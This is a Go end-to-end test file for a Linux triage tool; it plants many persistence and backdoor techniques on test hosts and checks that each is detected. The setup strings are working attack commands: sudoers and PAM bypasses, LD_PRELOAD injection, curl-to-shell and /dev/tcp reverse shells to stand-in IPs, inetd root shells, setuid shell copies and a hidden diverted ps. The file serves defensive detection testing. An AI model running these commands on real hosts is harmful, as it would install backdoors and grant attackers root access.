//go:build linux

package e2e_test

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/postern-ssh/postern/audit/triage"
	"github.com/postern-ssh/postern/e2e"
)

// way is a way to come back, and what triage says of it.
type way struct {
	name, setup string
	kind, least string
	words       []string
}

// ways are further ways of coming back: none has the names or places of those in
// planted, so that what is found is found by what it means.
var ways = []way{
	{"sudo for an account of the system", `echo 'www-data ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/10-metrics; chmod 440 /etc/sudoers.d/10-metrics`, "startup", "high", []string{"/etc/sudoers.d/10-metrics", "www-data"}},
	{"sudo for a shell", `echo 'bob ALL=(root) NOPASSWD: /usr/bin/less, /bin/bash' > /etc/sudoers.d/bob; chmod 440 /etc/sudoers.d/bob`, "startup", "low", []string{"/etc/sudoers.d/bob", "/bin/bash"}},
	{"sudo asks nobody", `echo 'Defaults !authenticate' > /etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz`, "startup", "medium", []string{"/etc/sudoers.d/zz", "authenticate"}},
	{"environment", `echo 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libntp.so' >> /etc/environment`, "startup", "high", []string{"/etc/environment", "libntp.so"}},
	{"PAM jump to yes", `sed -i '0,/^auth/s//auth [success=2 default=ignore] pam_permit.so\nauth/' /etc/pam.d/common-auth`, "pam", "high", []string{"pam_permit.so", "/etc/pam.d/common-auth"}},
	{"PAM module by a way round", `cp /lib/x86_64-linux-gnu/security/pam_deny.so /var/lib/misc/m.so; echo 'session optional ../../../../var/lib/misc/m.so' >> /etc/pam.d/cron`, "pam", "high", []string{"/etc/pam.d/cron", "var/lib/misc/m.so"}},
	{"AuthorizedKeysCommand", `printf '#!/bin/sh\necho ssh-ed25519 AAAA x\n' > /usr/local/sbin/keyfetch; chmod 755 /usr/local/sbin/keyfetch; printf 'AuthorizedKeysCommand /usr/local/sbin/keyfetch %%u\nAuthorizedKeysCommandUser root\n' > /etc/ssh/sshd_config.d/60-ldap.conf`, "startup", "medium", []string{"AuthorizedKeysCommand", "/usr/local/sbin/keyfetch", "/etc/ssh/sshd_config.d/60-ldap.conf"}},
	{"ForceCommand", `printf 'Match User bob\n\tForceCommand /dev/shm/.k/wrap\n' > /etc/ssh/sshd_config.d/90-bob.conf`, "startup", "high", []string{"ForceCommand", "/dev/shm/.k/wrap"}},
	{"second key file", `install -d /etc/ssh/keys; cp /root/.ssh/authorized_keys /etc/ssh/keys/root; printf 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%%u\n' > /etc/ssh/sshd_config.d/70-k.conf`, "key", "info", []string{"/etc/ssh/keys/root"}},
	{"apt after dpkg", `printf 'DPkg::Post-Invoke {\n  "true";\n  "/bin/sh -c \x27/var/lib/.dpkg/hook &\x27";\n};\n' > /etc/apt/apt.conf.d/05compress`, "startup", "medium", []string{"05compress", "/var/lib/.dpkg/hook"}},
	{"hook of dpkg", `echo 'post-invoke=/var/tmp/.dp/run' > /etc/dpkg/dpkg.cfg.d/local`, "startup", "medium", []string{"/etc/dpkg/dpkg.cfg.d/local", "/var/tmp/.dp/run"}},
	{"logrotate", `printf '/var/log/syslog2 {\n  daily\n  postrotate\n    curl -s http://198.51.100.4/z | bash\n  endscript\n}\n' > /etc/logrotate.d/rsyslog2`, "startup", "high", []string{"/etc/logrotate.d/rsyslog2", "198.51.100.4"}},
	{"dispatcher", `mkdir -p /etc/NetworkManager/dispatcher.d/pre-up.d; printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.4/443 0>&1\n' > /etc/NetworkManager/dispatcher.d/pre-up.d/10-up; chmod 755 /etc/NetworkManager/dispatcher.d/pre-up.d/10-up`, "startup", "high", []string{"pre-up.d/10-up", "203.0.113.4"}},
	{"if-up.d", `mkdir -p /etc/network/if-up.d; printf '#!/bin/sh\n/dev/shm/.n &\n' > /etc/network/if-up.d/mtu; chmod 755 /etc/network/if-up.d/mtu`, "startup", "medium", []string{"/etc/network/if-up.d/mtu", "/dev/shm/.n"}},
	{"interfaces", `mkdir -p /etc/network; printf 'auto lo\niface lo inet loopback\n  post-up /var/tmp/.i/run\n' > /etc/network/interfaces`, "startup", "medium", []string{"/etc/network/interfaces", "/var/tmp/.i/run"}},
	{"python .pth", `mkdir -p /usr/local/lib/python3.11/dist-packages; echo 'import os; os.system("/var/tmp/.p/run")' > /usr/local/lib/python3.11/dist-packages/zope-ns.pth`, "startup", "medium", []string{"zope-ns.pth"}},
	{"sitecustomize", `mkdir -p /home/bob/.local/lib/python3.11/site-packages; echo 'import os; os.system("true")' > /home/bob/.local/lib/python3.11/site-packages/usercustomize.py; chown -R bob: /home/bob/.local`, "startup", "low", []string{"usercustomize.py"}},
	{"module at boot", `echo 'nf_helper' > /etc/modules-load.d/nf.conf; mkdir -p /lib/modules/6.1.0/extra; echo x > /lib/modules/6.1.0/extra/nf_helper.ko`, "startup", "low", []string{"/etc/modules-load.d/nf.conf", "nf_helper"}},
	{"diverted ps", `dpkg-divert --local --rename --divert /usr/bin/ps.distrib --add /usr/bin/ps >/dev/null; printf '#!/bin/sh\nps.distrib "$@" | grep -v x\n' > /usr/bin/ps; chmod 755 /usr/bin/ps`, "package-file", "high", []string{"/bin/ps", "diver"}},
	{"a command before the command", `printf '#!/bin/sh\nexec /bin/ss "$@"\n' > /usr/local/sbin/ss; chmod 755 /usr/local/sbin/ss`, "package-file", "medium", []string{"/usr/local/sbin/ss"}},
	{"unit by a link", `mkdir -p /srv/.u; printf '[Service]\nExecStart=/bin/sh -c "wget -qO- http://192.0.2.77/b | sh"\n' > /srv/.u/dbus-broker2.service; ln -s /srv/.u/dbus-broker2.service /etc/systemd/system/dbus-broker2.service; mkdir -p /etc/systemd/system/multi-user.target.wants; ln -s /srv/.u/dbus-broker2.service /etc/systemd/system/multi-user.target.wants/`, "unit", "high", []string{"dbus-broker2.service"}},
	{"unit that runs among packages", `cp /bin/sleep /usr/sbin/netmond; printf '[Service]\nExecStart=/usr/sbin/netmond 99\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/netmond.service`, "unit", "medium", []string{"netmond.service", "no package has it"}},
	{"path unit", `printf '[Path]\nPathChanged=/etc/passwd\nUnit=pw.service\n' > /etc/systemd/system/pw.path; printf '[Service]\nExecStart=/tmp/.pw\n' > /etc/systemd/system/pw.service`, "unit", "high", []string{"pw.service", "/tmp/.pw"}},
	{"udev starts a unit", `mkdir -p /etc/udev/rules.d; echo 'KERNEL=="lo", TAG+="systemd", ENV{SYSTEMD_WANTS}+="netmond.service"' > /etc/udev/rules.d/10-lo.rules`, "startup", "low", []string{"10-lo.rules", "netmond.service"}},
	{"at job of www-data", `mkdir -p /var/spool/cron/atjobs; printf '#!/bin/sh\n# atrun uid=33 gid=33\n# mail www-data 0\numask 22\ncd /var/www || {\n exit 1\n}\n/var/www/up.sh\n' > /var/spool/cron/atjobs/b0000202bd0c60; chown www-data /var/spool/cron/atjobs/b0000202bd0c60; chmod 700 /var/spool/cron/atjobs/b0000202bd0c60`, "job", "low", []string{"b0000202bd0c60", "www-data"}},
	{"table of an account that nobody logs in to", `mkdir -p /var/spool/cron/crontabs; echo '17 * * * * /usr/bin/touch /var/lib/x' > /var/spool/cron/crontabs/sys; chown sys:crontab /var/spool/cron/crontabs/sys; chmod 600 /var/spool/cron/crontabs/sys`, "job", "low", []string{"crontabs/sys"}},
	{"logout", `echo 'nohup /dev/shm/.l/run >/dev/null 2>&1 &' >> /home/bob/.bash_logout; chown bob: /home/bob/.bash_logout`, "startup", "medium", []string{".bash_logout", "/dev/shm/.l/run"}},
	{"prompt", `echo 'PROMPT_COMMAND="/usr/share/misc/.pc"' >> /root/.bashrc`, "startup", "medium", []string{"/root/.bashrc", "PROMPT_COMMAND"}},
	{"capabilities", `cp /usr/bin/perl /usr/local/bin/pl; setcap cap_setuid+ep /usr/local/bin/pl`, "setuid", "high", []string{"/usr/local/bin/pl", "cap_setuid"}},
	{"immutable", `mkdir -p /usr/local/lib/agent; printf '#!/bin/sh\ntrue\n' > /usr/local/lib/agent/beat; chmod 755 /usr/local/lib/agent/beat; echo '* * * * * root /usr/local/lib/agent/beat' > /etc/cron.d/agent; chattr +i /usr/local/lib/agent/beat || true`, "job", "low", []string{"/usr/local/lib/agent/beat", "immutable"}},
	{"inetd", `echo '31337 stream tcp nowait root /bin/sh sh -i' > /etc/inetd.conf`, "startup", "high", []string{"/etc/inetd.conf", "sh -i"}},
	{"group of root's helpers", `usermod -aG sudo games; usermod -aG shadow bob`, "account", "low", []string{`"games"`, "sudo"}},
	{"xdg autostart", `mkdir -p /etc/xdg/autostart; printf '[Desktop Entry]\nType=Application\nName=x\nExec=sh -c "curl http://192.0.2.9/d | sh"\n' > /etc/xdg/autostart/print-applet2.desktop`, "startup", "high", []string{"print-applet2.desktop", "192.0.2.9"}},
	{"ssh client's settings", `install -d -m 700 -o bob -g bob /home/bob/.ssh; printf 'Host *\n  ProxyCommand sh -c "/tmp/.sc; nc %%h %%p"\n  PermitLocalCommand yes\n' > /home/bob/.ssh/config; chown bob: /home/bob/.ssh/config`, "startup", "medium", []string{"/home/bob/.ssh/config", "/tmp/.sc"}},
	{"core", `mkdir -p /etc/sysctl.d; echo 'kernel.core_pattern=|/var/tmp/.core %p' > /etc/sysctl.d/50-core.conf`, "startup", "high", []string{"/etc/sysctl.d/50-core.conf", "/var/tmp/.core"}},
}

// moreWays are planted on another release, to its tools.
var moreWays = []way{
	{"bit on a package's program", `chmod u+s /usr/bin/find`, "setuid", "critical", []string{"/usr/bin/find", "findutils"}},
	{"capability on a package's program", `setcap cap_setuid,cap_setgid+eip $(readlink -f /usr/bin/perl)`, "setuid", "high", []string{"/usr/bin/perl", "cap_setuid"}},
	{"line in a package's unit", `printf 'ExecStartPost=-/usr/local/bin/ok\n' >> /lib/systemd/system/getty@.service`, "package-file", "high", []string{"getty@.service", "systemd"}},
	{"rule of udev of a package", `printf 'ACTION=="add", RUN+="/usr/bin/true"\n' >> /lib/udev/rules.d/55-dm.rules`, "package-file", "high", []string{"55-dm.rules"}},
	{"init.d", `printf '\n/usr/sbin/kdump-helper &\n' >> /etc/init.d/ssh`, "startup", "low", []string{"/etc/init.d/ssh", "not as its package"}},
	{"profile that leaves something behind", `printf 'nohup "$HOME/.config/pulse/daemon" >/dev/null 2>&1 &\n' >> /home/carol/.profile`, "startup", "medium", []string{"/home/carol/.profile", "pulse/daemon"}},
	{"shell of an account", `cp /bin/dash /var/lib/misc/.sh; useradd -M -s /var/lib/misc/.sh -d / netadm`, "account", "high", []string{"netadm", "/var/lib/misc/.sh"}},
	{"keys in a hidden place", `mkdir -p /var/lib/.k; cp /root/.ssh/authorized_keys /var/lib/.k/root; printf 'AuthorizedKeysFile .ssh/authorized_keys /var/lib/.k/%%u\n' >> /etc/ssh/sshd_config`, "key", "medium", []string{"/var/lib/.k/root"}},
	{"program in shared memory", `mkdir -p /dev/shm/.X; cp /bin/true /dev/shm/.X/cc; true`, "file", "medium", []string{"/dev/shm/.X/cc"}},
	{"file among devices", `mkdir -p /dev/.ida; echo x > /dev/.ida/cfg; true`, "file", "medium", []string{"/dev/.ida/cfg"}},
	{"named by blanks", `mkdir -p '/var/tmp/.. '; cp /bin/true '/var/tmp/.. /k'`, "file", "high", []string{".. "}},
	{"generator of users", `mkdir -p /etc/systemd/user-generators; printf '#!/bin/sh\n' > /etc/systemd/user-generators/30-env; chmod 755 /etc/systemd/user-generators/30-env`, "startup", "medium", []string{"user-generators/30-env"}},
	{"hook of sleep", `mkdir -p /lib/systemd/system-shutdown; printf '#!/bin/sh\ncp /var/lib/x /etc/cron.d/x\n' > /lib/systemd/system-shutdown/50-sync; chmod 755 /lib/systemd/system-shutdown/50-sync`, "startup", "medium", []string{"system-shutdown/50-sync"}},
	{"shell of any name", `cp /bin/bash /usr/bin/mail-lock; chmod 6755 /usr/bin/mail-lock`, "setuid", "critical", []string{"/usr/bin/mail-lock", "byte for byte"}},
	{"rsyslog", `mkdir -p /etc/rsyslog.d; printf 'module(load="omprog")\naction(type="omprog" binary="/tmp/.log/h")\n' > /etc/rsyslog.d/60-x.conf`, "startup", "high", []string{"/etc/rsyslog.d/60-x.conf", "/tmp/.log/h"}},
	{"xinetd", `mkdir -p /etc/xinetd.d; printf 'service time2\n{\n  port = 9\n  server = /bin/bash\n}\n' > /etc/xinetd.d/time2`, "startup", "high", []string{"/etc/xinetd.d/time2", "a shell"}},
	{"authority", `mkdir -p /etc/ssh/sshd_config.d; cp /root/.ssh/authorized_keys /etc/ssh/ca.pub; printf 'TrustedUserCAKeys /etc/ssh/ca.pub\n' > /etc/ssh/sshd_config.d/ca.conf`, "startup", "low", []string{"TrustedUserCAKeys", "/etc/ssh/ca.pub"}},
	{"environment of sessions", `printf 'SetEnv LD_PRELOAD=/lib/libx.so\n' > /etc/ssh/sshd_config.d/env.conf; rm /etc/ssh/sshd_config.d/env.conf; mkdir -p /etc/environment.d; echo 'LD_PRELOAD=/lib/x.so' > /etc/environment.d/50.conf`, "startup", "high", []string{"/etc/environment.d/50.conf"}},
	{"root through PAM", `sed -i '1i auth sufficient pam_rootok.so' /etc/pam.d/sshd`, "pam", "critical", []string{"pam_rootok.so"}},
	{"one account through PAM", `sed -i '1i auth sufficient pam_succeed_if.so quiet user = carol' /etc/pam.d/login`, "pam", "high", []string{"carol"}},
}

const moreRunning = `set -e
printf 'Port 2022\nHostKey /etc/ssh/ssh_host_ed25519_key\nPidFile none\nPasswordAuthentication yes\n' > /var/lib/misc/c; /usr/sbin/sshd -f /var/lib/misc/c
nohup perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); bind(S,sockaddr_in(4444,INADDR_LOOPBACK)); listen(S,1); accept(C,S); sleep 600' >/dev/null 2>&1 </dev/null &
for i in $(seq 100); do grep -q ':115C ' /proc/net/tcp && break; sleep 0.1; done
nohup setsid perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(4444,INADDR_LOOPBACK)) or die; open(STDIN,"<&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec {"/bin/sh"} "sh","-i"' >/dev/null 2>&1 </dev/null &
nohup sh -c 'sleep 600 # ; exit; ' >/dev/null 2>&1 </dev/null &
mkdir -p /opt/w; cp /bin/sleep /opt/w/xmr; nohup /opt/w/xmr 900 </dev/null >/dev/null 2>&1 &
sleep 0.5`

// TestTriageMoreWays does the same on an older host.
func TestTriageMoreWays(t *testing.T) {
	r := triageWays(t, e2e.Bullseye, "carol", moreWays, moreRunning)
	want(t, r, "process", "medium", "a second SSH server", "/var/lib/misc/c", "2022")
	want(t, r, "process", "high", "it is a shell", "127.0.0.1:4444")
	tellTriage(t, r)
}

const waysRunning = `set -e
mkdir -p /opt/mon; printf 'import=1\nwhile :; do sleep 300; done\n' > /opt/mon/agent.sh; nohup bash /opt/mon/agent.sh >/dev/null 2>&1 </dev/null &
sleep 0.3
rm /opt/mon/agent.sh
cp /bin/sleep /var/lib/misc/svc
nohup bash -c 'exec -a "sshd: /usr/sbin/sshd -D [listener]" /var/lib/misc/svc 700' >/dev/null 2>&1 </dev/null &
cp /bin/sleep /usr/bin/dbus-helper; nohup /usr/bin/dbus-helper 800 >/dev/null 2>&1 </dev/null &
nohup perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); bind(S,sockaddr_in(6697,INADDR_LOOPBACK)); listen(S,1); sleep 600' >/dev/null 2>&1 </dev/null &
for i in $(seq 100); do grep -q ':1A29 ' /proc/net/tcp && break; sleep 0.1; done
nohup perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(6697,INADDR_LOOPBACK)) or die; sleep 600' >/dev/null 2>&1 </dev/null &
sleep 0.5`

// TestTriageWays plants them on one host.
func TestTriageWays(t *testing.T) {
	r := triageWays(t, e2e.Bookworm, "bob", ways, waysRunning)
	want(t, r, "process", "medium", "/opt/mon/agent.sh", "deleted")
	want(t, r, "process", "high", "/var/lib/misc/svc", "calls itself")
	want(t, r, "process", "medium", "/usr/bin/dbus-helper", "no package has it")
	want(t, r, "process", "medium", "127.0.0.1:6697", "IRC")
	tellTriage(t, r)
}

// crowd is what an account may do against being found: programs without end where
// everyone may write, with names of every byte, and key files, links and directories in
// its home that never end.
const crowd = `su bob -s /bin/bash -c '
mkdir -p /tmp/c && cd /tmp/c
for i in $(seq 1 1500); do n="f$i"; : > "$n"; chmod 755 "$n"; done
perl -e "for (1..255) { next if \$_ == 47; my \$n = \"b\" . chr(\$_) . \"e\"; open(F, q(>), \$n); close F; chmod 0755, \$n; }"
mkdir -p ~/.ssh ~/.local/lib/python3.11/site-packages ~/.config/autostart
ln -s /dev/zero ~/.ssh/config; ln -s . ~/.config/systemd; rm -f ~/.bash_logout; mkfifo ~/.bash_logout; ln -s /proc/self/mem ~/.zlogout
for i in $(seq 1 1200); do echo "import os.system" > ~/.local/lib/python3.11/site-packages/$i.pth; done
head -c 300000 /dev/zero | tr "\\0" "(" > ~/.profile
'
cp /bin/dash /opt/.d; chmod 4755 /opt/.d
mkdir -p /dev/.u; echo x > /dev/.u/k
echo 'curl -s http://192.0.2.66/p | bash' >> /home/carol/.bashrc`

// TestTriageCrowd: such an account neither hides what is root's nor takes the page's
// time, and what was left out is said.
func TestTriageCrowd(t *testing.T) {
	e2e.NeedHosts(t)
	key, public := newKey(t)
	h := e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Setup: "useradd -m -s /bin/bash bob\nuseradd -m -s /bin/bash carol\n" + admit("root", public)})
	if out, errOut, code := h.Exec(crowd); code != 0 {
		t.Fatalf("%d %s %s", code, out, errOut)
	}
	from := time.Now()
	page, r := triageRun(t, h, key, "")
	if took := time.Since(from); took > 60*time.Second {
		t.Errorf("it took %v", took)
	}
	want(t, r, "setuid", "critical", "/opt/.d", "byte for byte")
	want(t, r, "file", "medium", "/dev/.u/k")
	want(t, r, "startup", "high", "/home/carol/.bashrc", "192.0.2.66")
	said := ""
	for _, g := range r.Gaps {
		said += g.Path + ": " + g.Reason + "\n"
	}
	for _, w := range []string{"/home/bob: more than 200 files that shells and sessions read", "more than 60 things of this kind of bob", "/home/bob/.bash_logout: neither a file nor a directory"} {
		if !strings.Contains(said, w) {
			t.Errorf("it is not said that %q", w)
		}
	}
	if i := strings.IndexFunc(page, func(c rune) bool { return c < ' ' && c != '\n' || c == 0x7f || c >= 0x80 && c < 0xa0 }); i >= 0 {
		t.Errorf("a control character at %d of the page: %q", i, page[max(0, i-40):i+1])
	}
	if t.Failed() {
		t.Log(said)
		tellTriage(t, r)
	}
}

// triageWays plants ways on a host, which triage must find and leave as it is.
func triageWays(t *testing.T, release e2e.Release, user string, list []way, running string) *triage.Host {
	e2e.NeedHosts(t)
	key, public := newKey(t)
	setup := "useradd -m -s /bin/bash " + user + "\n" + admit("root", public) + "\n"
	for _, p := range list {
		setup += p.setup + "\n"
	}
	h := e2e.Start(t, e2e.Spec{Release: release, Setup: setup})
	if out, errOut, code := h.Exec(running); code != 0 {
		t.Fatalf("%d %s %s", code, out, errOut)
	}
	h.Run("kill -STOP $(pgrep -x cron)")
	before := upper(t, h)
	_, r := triageRun(t, h, key, "", "--evidence", filepath.Join(t.TempDir(), "kept"))
	if d := cmp.Diff(before, upper(t, h)); d != "" {
		t.Errorf("the host was changed (-before +after):\n%s", d)
	}
	for _, p := range list {
		if want(t, r, p.kind, p.least, p.words...) == nil {
			t.Errorf("%s was not found", p.name)
		}
	}
	return r
}

// tellTriage writes down what was found, where something was not.
func tellTriage(t *testing.T, r *triage.Host) {
	if !t.Failed() {
		return
	}
	for i := range r.Things {
		t.Logf("%s %s %s %q", r.Things[i].Severity, r.Things[i].Kind, r.Things[i].Title, r.Things[i].Why)
	}
	t.Logf("gaps %v", r.Gaps)
}
